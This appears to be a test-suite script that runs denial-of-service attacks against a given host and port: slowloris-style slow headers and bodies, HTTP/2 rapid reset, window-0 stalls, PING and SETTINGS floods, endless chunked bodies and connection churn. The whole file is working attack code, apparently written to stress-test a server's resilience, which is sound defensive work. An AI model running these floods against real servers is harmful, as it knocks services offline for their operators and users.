"""Attacks one address over plain sockets, until it is killed: `python -m tests.attacks.attacker NAME HOST PORT COUNT`.

COUNT is the number of connections. A line on standard output reports that the attack is in full progress.
"""

import socket
import sys
import time
from argparse import ArgumentParser
from collections.abc import Callable, Iterator
from contextlib import suppress
from itertools import repeat

from tests.attacks.frames import CANCEL, HEADERS, PING, RST_STREAM, SETTINGS, Request, frame, opening
from tests.contract import BASE

DRIP_SECONDS = 1.0  # between two bytes of a slow request: more often than any time limit for silence
STREAMS_OF_A_READER = 100
RESETS_IN_A_ROW = 100  # requests that are sent and reset in one write
FLOOD_FRAMES = 1_000  # in one write
CHUNK_BYTES = 4_096
RECEIVED_BYTES = 65_536  # at a time
LIST = Request(f"{BASE}?limit=100")
POST = f"POST {BASE}/events HTTP/1.1\r\nhost: x\r\n"

Address = tuple[str, int]
Send = Iterator[bytes]


def idle() -> Send:
    """Connects and sends nothing."""
    yield b""


def slow_headers() -> Send:
    """A request whose headers never end."""
    yield f"GET {BASE} HTTP/1.1\r\nhost: x\r\nx-slow: ".encode()
    yield from repeat(b"x")


def slow_body() -> Send:
    """A body that arrives byte by byte."""
    yield f"{POST}content-length: 10000\r\n\r\n".encode()
    yield from repeat(b" ")


def unfinished_headers() -> Send:
    """HTTP/2 headers without their last frame, and then nothing."""
    yield opening() + frame(HEADERS, 0, 1, LIST.encoded())


def window_0() -> Send:
    """Asks for many pages over HTTP/2, and lets none of them be sent."""
    yield opening(window=0) + b"".join(LIST.frame(2 * number + 1) for number in range(STREAMS_OF_A_READER))


def rapid_reset() -> Send:
    """Asks for pages over HTTP/2 and resets each request at once."""
    yield opening()
    for first in range(1, 2**31, 2 * RESETS_IN_A_ROW):
        streams = range(first, first + 2 * RESETS_IN_A_ROW, 2)
        yield b"".join(LIST.frame(stream) + frame(RST_STREAM, 0, stream, CANCEL) for stream in streams)


def ping_flood() -> Send:
    yield opening()
    yield from repeat(frame(PING, payload=bytes(8)) * FLOOD_FRAMES)


def settings_flood() -> Send:
    yield opening()
    yield from repeat(frame(SETTINGS) * FLOOD_FRAMES)


def endless_body() -> Send:
    """A body in chunks that never ends."""
    yield f"{POST}transfer-encoding: chunked\r\n\r\n".encode()
    yield from repeat(f"{CHUNK_BYTES:x}\r\n".encode() + b" " * CHUNK_BYTES + b"\r\n")


def churn() -> Send:
    """One request for each connection, which is closed without waiting for the answer."""
    yield f"GET {BASE}/mntr_1 HTTP/1.1\r\nhost: x\r\n\r\n".encode()


# The connections of these attacks stay open, and send something now and then. Those of the others send all the time.
SLOW: tuple[Callable[[], Send], ...] = (idle, slow_headers, slow_body, unfinished_headers, window_0)
FAST: tuple[Callable[[], Send], ...] = (rapid_reset, ping_flood, settings_flood, endless_body, churn)
ATTACKS = {attack.__name__.replace("_", "-"): attack for attack in (*SLOW, *FAST)}


class Connection:
    """A connection of an attacker. When it ends, the attacker connects again."""

    def __init__(self, address: Address, attack: Callable[[], Send]) -> None:
        self._address = address
        self._attack = attack
        self._open()

    def step(self) -> None:
        """Sends what comes next, and discards what has been received."""
        try:
            self._send()
            self._receive()
        except OSError:
            self._socket.close()
            self._open()

    def _open(self) -> None:
        self._socket = socket.create_connection(self._address)
        self._socket.setblocking(False)
        self._sends = self._attack()
        self._rest = b""
        with suppress(OSError):
            self._send()

    def _send(self) -> None:
        self._rest = self._rest or next(self._sends, b"")
        if not self._rest and self._attack is churn:
            raise ConnectionAbortedError
        with suppress(BlockingIOError):
            self._rest = self._rest[self._socket.send(self._rest) :]

    def _receive(self) -> None:
        with suppress(BlockingIOError):
            if not self._socket.recv(RECEIVED_BYTES):
                raise ConnectionResetError


def main() -> None:
    parser = ArgumentParser(description=__doc__)
    parser.add_argument("name", choices=ATTACKS)
    parser.add_argument("host")
    parser.add_argument("port", type=int)
    parser.add_argument("count", type=int)
    arguments = parser.parse_args()
    attack = ATTACKS[arguments.name]
    connections = [Connection((arguments.host, arguments.port), attack) for _ in range(arguments.count)]
    sys.stdout.write("attacking\n")
    sys.stdout.flush()
    while True:
        for connection in connections:
            connection.step()
        if attack in SLOW:
            time.sleep(DRIP_SECONDS)


if __name__ == "__main__":
    main()
